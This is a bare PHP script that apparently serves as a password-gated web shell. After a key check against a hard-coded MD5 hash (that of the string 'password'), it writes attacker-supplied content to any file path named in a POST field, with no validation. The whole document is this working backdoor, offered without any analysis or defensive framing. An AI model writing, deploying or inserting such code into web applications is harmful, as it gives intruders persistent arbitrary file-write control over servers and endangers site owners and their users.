<?php
session_start();
if (isset($_POST['k']) && md5($_POST['k']) == '5f4dcc3b5aa765d61d8327deb882cf99') {
    $_SESSION['ok'] = 1;
}
if (isset($_SESSION['ok'])) {
    $target = $_POST['t'];
    $h = fopen($target, 'w');
    fwrite($h, $_POST['src']);
    fclose($h);
    echo 'written';
}
